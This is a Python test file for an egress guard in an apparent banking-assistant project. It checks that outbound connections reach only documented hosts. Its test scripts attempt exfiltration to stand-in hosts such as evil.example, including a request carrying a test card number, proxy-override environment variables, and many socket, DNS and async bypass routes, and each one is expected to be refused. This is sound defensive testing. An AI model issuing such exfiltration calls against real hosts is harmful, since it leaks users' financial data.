"""The egress guard: the list is what is documented, and nothing else can be connected to, whoever tries."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from support.installation import settings_in

from assistant.connectors.registry import load_profiles
from assistant.egress import REMEMBERED, EgressRefused, Guard
from assistant.guarded import CHANNEL_HOSTS, allow_list, allow_table

ROOT = Path(__file__).resolve().parent.parent
#: RFC 5737: addresses and names that exist nowhere.
NOWHERE = "192.0.2.1"
FOUND = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (NOWHERE, 443))]


def documented() -> set[str]:
    """The first column of the table of hosts in docs/privacy.md."""
    text = (ROOT / "docs" / "privacy.md").read_text(encoding="utf-8")
    section = text.split("## Where data can go", 1)[1].split("\n## ", 1)[0]
    return set(re.findall(r"^\| `([^`]+)` \|", section, re.MULTILINE))


def test_every_host_of_code_and_profiles_is_documented_and_no_other() -> None:
    """With no environment, hosts that an installation must name itself stand as their variable."""
    hosts = {host for profile in load_profiles(env={}).values() for host in profile.hosts} | set(CHANNEL_HOSTS)
    assert hosts == documented()


def test_a_fresh_installation_may_connect_to_nothing_but_itself(tmp_path: Path) -> None:
    assert allow_list(settings_in(tmp_path)) == frozenset()


def test_a_bank_is_allowed_once_all_of_it_is_set(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    names = {
        "TELLERLINE_CHASE_OAUTH_HOST": "oauth.chase.example",
        "TELLERLINE_CHASE_CLIENT_ID": "us",
        "TELLERLINE_CHASE_REDIRECT_URI": "https://us.example/link/callback",
    }
    assert allow_table(settings_in(tmp_path), names) == {}
    monkeypatch.setenv("TELLERLINE_CHASE_CLIENT_SECRET", "s")
    assert allow_table(settings_in(tmp_path), names) == {
        "api2.chase.com": "bank chase",
        "oauth.chase.example": "bank chase",
    }


def test_a_channels_host_is_allowed_once_the_channel_is_switched_on(tmp_path: Path) -> None:
    credentials = tmp_path / "credentials.yml"
    for channel in ("rest", *CHANNEL_HOSTS.values()):
        credentials.write_text(f"{channel}:\n  key: x\n")
        hosts = {host for host, name in CHANNEL_HOSTS.items() if name == channel}
        assert set(allow_table(settings_in(tmp_path), {}, credentials)) == hosts


def test_a_bank_of_the_installation_and_its_databases_are_allowed(tmp_path: Path) -> None:
    banks = tmp_path / "banks.yml"
    banks.write_text(
        """
banks:
  first:
    base_url: https://api.first.example:8443/fdx
    hosts: ["api.first.example:8443", "login.first.example"]
    oauth:
      authorize_url: https://login.first.example/authorize
      token_url: https://login.first.example/token
      client_id: us
"""
    )
    settings = settings_in(
        tmp_path,
        banks_file=banks,
        database_url="postgresql+psycopg2://u:p@db.internal/tellerline",
        keys_url="postgresql://u:p@[2001:db8::7]:5433/keys",
    )
    assert allow_table(settings, {}) == {
        "api.first.example:8443": "bank first",
        "login.first.example": "bank first",
        "db.internal:5432": "database",
        "[2001:db8::7]:5433": "database",
    }
    assert "p" not in allow_table(settings, {}).values()


def test_no_variable_of_the_environment_adds_a_host(tmp_path: Path) -> None:
    hostile = {
        "TELLERLINE_EGRESS_ALLOW": "evil.example",
        "TELLERLINE_EGRESS": "off",
        "HTTPS_PROXY": "http://evil.example:3128",
        "NO_PROXY": "*",
        "TELLERLINE_ENV": "development",
    }
    assert allow_table(settings_in(tmp_path), hostile) == {}


@pytest.mark.parametrize(
    "name", ["evil.example", "bank.example.evil.example", "notbank.example", "xn--bnk-qla.example"]
)
def test_other_names_are_not_looked_up(name: str) -> None:
    with pytest.raises(EgressRefused) as caught:
        Guard(["bank.example"]).check_name(name)
    assert caught.value.host == name
    assert isinstance(caught.value, OSError)


@pytest.mark.parametrize(
    "name", ["bank.example", "BANK.example.", b"bank.example", None, "", "localhost", NOWHERE, "::1"]
)
def test_allowed_names_and_what_needs_no_look_up(name: object) -> None:
    Guard(["bank.example"]).check_name(name)


@pytest.mark.parametrize(
    ("family", "address"),
    [
        (socket.AF_INET, ("127.0.0.1", 5055)),
        (socket.AF_INET, ("127.8.9.1", 1)),
        (socket.AF_INET6, ("::1", 5055, 0, 0)),
        (socket.AF_INET6, ("::ffff:127.0.0.1", 5055, 0, 0)),
        (socket.AF_UNIX, "/run/postgresql/.s.PGSQL.5432"),
        (socket.AF_INET, ("bank.example", 443)),
        (socket.AF_INET, ("10.0.0.5", 5432)),
    ],
)
def test_this_machine_and_the_list_are_connected_to(family: int, address: object) -> None:
    Guard(["bank.example", "10.0.0.5:5432"]).check_address(family, address)


@pytest.mark.parametrize(
    ("family", "address"),
    [
        (socket.AF_INET, (NOWHERE, 443)),
        (socket.AF_INET, ("bank.example", 80)),
        (socket.AF_INET, ("10.0.0.5", 443)),
        (socket.AF_INET, ("0.0.0.0", 80)),
        (socket.AF_INET, ("", 80)),
        (socket.AF_INET, ("<broadcast>", 80)),
        (socket.AF_INET6, ("2001:db8::1", 443, 0, 0)),
        (socket.AF_INET6, (f"::ffff:{NOWHERE}", 443, 0, 0)),
        (socket.AF_INET, "127.0.0.1"),
        (40, (2, 1234)),  # AF_VSOCK: the host of a virtual machine
    ],
)
def test_the_rest_is_refused(family: int, address: object) -> None:
    with pytest.raises(EgressRefused):
        Guard(["bank.example", "10.0.0.5:5432"]).check_address(family, address)


def test_an_address_counts_for_the_name_it_was_found_for_on_its_port_for_a_while() -> None:
    now = [0.0]
    guard = Guard(["bank.example"], monotonic=lambda: now[0])
    guard.learn("evil.example", FOUND)
    with pytest.raises(EgressRefused):
        guard.check(NOWHERE, 443)
    guard.learn("bank.example", FOUND)
    guard.check(NOWHERE, 443)
    guard.check(f"::ffff:{NOWHERE}", 443)
    with pytest.raises(EgressRefused):
        guard.check(NOWHERE, 22)
    now[0] = REMEMBERED + 1
    with pytest.raises(EgressRefused):
        guard.check(NOWHERE, 443)


def test_a_refusal_is_logged_by_host_alone(caplog: pytest.LogCaptureFixture) -> None:
    with pytest.raises(EgressRefused):
        Guard([]).check("evil\n.example", 443)
    assert caplog.messages == ["Refused a connection to evil.example"]


def run(script: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    """In a process of its own: a guard is for good."""
    return subprocess.run(
        [sys.executable, "-c", script, *arguments], cwd=ROOT, capture_output=True, text=True, timeout=100
    )


ATTEMPTS = """
import _socket, http.client, socket, ssl, urllib.request
from socket import getaddrinfo as early
import requests
from assistant import egress

egress.install(["bank.example"])

tls = ssl.create_default_context()

def udp(send):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        send(s)

attempts = {
    "connect": lambda: socket.socket().connect(("192.0.2.1", 443)),
    "connect_ex": lambda: socket.socket().connect_ex(("192.0.2.1", 443)),
    "the C class": lambda: _socket.socket().connect(("192.0.2.1", 443)),
    "create_connection": lambda: socket.create_connection(("192.0.2.1", 443)),
    "another port of a bank": lambda: socket.socket().connect(("bank.example", 80)),
    "getaddrinfo": lambda: socket.getaddrinfo("evil.example", 443),
    "getaddrinfo imported before": lambda: early("evil.example", 443),
    "connect to a name": lambda: socket.socket().connect(("evil.example", 443)),
    "sendto a name": lambda: udp(lambda s: s.sendto(b"x", 0, ("evil.example", 53))),
    "gethostbyname": lambda: socket.gethostbyname("evil.example"),
    "gethostbyname_ex": lambda: socket.gethostbyname_ex("evil.example"),
    "sendto": lambda: udp(lambda s: s.sendto(b"x", ("192.0.2.1", 53))),
    "sendmsg": lambda: udp(lambda s: s.sendmsg([b"x"], [], 0, ("192.0.2.1", 53))),
    "http.client": lambda: http.client.HTTPConnection("evil.example").connect(),
    "tls": lambda: tls.wrap_socket(socket.socket(), server_hostname="e").connect(("192.0.2.1", 443)),
    "install more": lambda: egress.install(["evil.example"]),
}
for name, attempt in attempts.items():
    try:
        attempt()
    except egress.EgressRefused as error:
        print("refused", error.host)
    except ValueError:
        print("refused to add")
    except OSError as error:
        print("WENT THROUGH", name, type(error).__name__)
    else:
        print("WENT THROUGH", name)
for url in ("https://evil.example/?card=4111111111111111", "http://192.0.2.1/"):
    try:
        requests.get(url, timeout=5)
    except requests.ConnectionError as error:
        print("is not allowed" in str(error))
try:
    urllib.request.urlopen("https://evil.example/", timeout=5)
except urllib.error.URLError as error:
    print(type(error.reason).__name__)
"""


def test_every_way_out_of_python_is_refused() -> None:
    done = run(ATTEMPTS)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert not [line for line in lines if "WENT THROUGH" in line]
    assert lines[16:] == ["True", "True", "EgressRefused"]
    assert {line.removeprefix("refused ") for line in lines[:16]} == {NOWHERE, "evil.example", "bank.example", "to add"}
    assert "4111" not in done.stderr


ALLOWED = """
import socket
found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("192.0.2.1", 443))]
socket.getaddrinfo = lambda host, port, *rest, **more: found
from assistant import egress
egress.install(["bank.example", "spare.example"])

def state(port):
    with socket.socket() as s:
        s.setblocking(False)
        try:
            s.connect_ex(("192.0.2.1", port))
            return "tried"
        except egress.EgressRefused:
            return "refused"

print(state(443))
socket.getaddrinfo("bank.example", 443)
print(state(443), state(80))

server = socket.create_server(("127.0.0.1", 0))
with socket.socket() as s:
    s.connect(server.getsockname())
    print("loopback")
egress.install(["spare.example"])
print(state(443))
"""


def test_an_allowed_name_is_connected_to_until_it_is_left_out() -> None:
    """The resolver's answer is made up; the connections are tried in earnest, to where nobody is."""
    done = run(ALLOWED)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["refused", "tried", "refused", "loopback", "refused"]


SERVER = """
import asyncio, socket, sys
import aiohttp
from sanic import Sanic
from sanic.response import json
from assistant import egress

app = Sanic("guarded")

@app.route("/self")
async def itself(request):
    return json("yes")

@app.route("/try")
async def attempt(request):
    loop = asyncio.get_running_loop()
    plain = socket.socket()
    plain.setblocking(False)
    tried = {}

    async def note(name, coroutine):
        try:
            tried[name] = repr(await coroutine)
        except (egress.EgressRefused, aiohttp.ClientConnectorError) as error:
            cause = error if isinstance(error, egress.EgressRefused) else error.os_error
            tried[name] = type(cause).__name__

    async def fetch(url):
        async with aiohttp.ClientSession() as session, session.get(url) as answer:
            return answer.status

    protocol = asyncio.Protocol
    await note("loop", asyncio.sleep(0, type(loop).__module__))
    await note("aiohttp address", fetch("http://192.0.2.1/"))
    await note("aiohttp self", fetch(f"http://127.0.0.1:{request.server_port}/self"))
    await note("connection", loop.create_connection(protocol, "evil.example", 443))
    await note("connection by name", loop.create_connection(protocol_factory=protocol, host="192.0.2.1", port=443))
    await note("lookup", loop.getaddrinfo("evil.example", 443))
    await note("socket", loop.sock_connect(plain, ("192.0.2.1", 443)))
    await note("datagram", loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("192.0.2.1", 53)))
    try:
        tried["aiohttp name"] = await fetch("https://evil.example/")
    except aiohttp.ClientConnectorDNSError as error:
        tried["aiohttp name"] = type(error.__cause__.__cause__ or error.__cause__).__name__
    return json(tried)

if __name__ == "__main__":
    egress.install([])
    with socket.create_server(("127.0.0.1", 0)) as sock:
        print(sock.getsockname()[1], flush=True)
        app.run(sock=sock, access_log=False)
"""


def test_a_sanic_server_on_uvloop_is_guarded_too() -> None:
    """uvloop connects in C: this is what Rasa and the action server run on."""
    import json
    import urllib.request

    pytest.importorskip("uvloop")
    process = subprocess.Popen(
        [sys.executable, "-c", SERVER], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    try:
        assert process.stdout is not None
        port = int(process.stdout.readline())
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/try", timeout=60) as answer:
            tried = json.load(answer)
    finally:
        process.kill()
        process.wait()
    assert tried.pop("loop") == "'uvloop'"
    assert tried.pop("aiohttp self") == "200"
    assert len(tried) == 7
    assert set(tried.values()) == {"EgressRefused"}, tried


WIRED = """
import logging, sys
from assistant.guarded import guard_process
guard_process()
guard_process()
import requests
logging.basicConfig()
logging.getLogger("x").warning("card 4111111111111111")
try:
    requests.get("https://maya-4111111111111111.evil.example/")
except requests.ConnectionError:
    print("refused")
"""


def test_one_call_guards_connections_and_logs(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", WIRED],
        cwd=ROOT,
        env={"PATH": "/usr/bin:/bin", "TELLERLINE_HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=100,
    )
    assert done.stdout == "refused\n", done.stderr
    assert "WARNING:x:card [card]" in done.stderr
    assert "Refused a connection to" in done.stderr
    assert "4111" not in done.stderr


def test_the_list_can_be_printed(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "assistant.guarded"],
        cwd=ROOT,
        env={
            "PATH": "/usr/bin:/bin",
            "TELLERLINE_HOME": str(tmp_path),
            "TELLERLINE_DATABASE_URL": "postgresql://u:hunter2@db.internal/t",
        },
        capture_output=True,
        text=True,
        timeout=100,
    )
    assert done.stdout == "db.internal:5432\tdatabase\nthis machine\tloopback addresses, Unix sockets\n", done.stderr


def test_a_module_can_be_run_guarded(tmp_path: Path) -> None:
    statement = "import socket, sys; print(sys.argv[0]); socket.create_connection(('192.0.2.1', 443))"
    done = subprocess.run(
        [sys.executable, "-m", "assistant.guarded", "timeit", "-n1", "-r1", statement],
        cwd=ROOT,
        env={"PATH": "/usr/bin:/bin", "TELLERLINE_HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=100,
    )
    assert done.returncode == 1
    assert done.stdout.strip().endswith("timeit.py")
    assert "assistant.egress.EgressRefused: [Errno 13] connecting to 192.0.2.1 is not allowed" in done.stderr
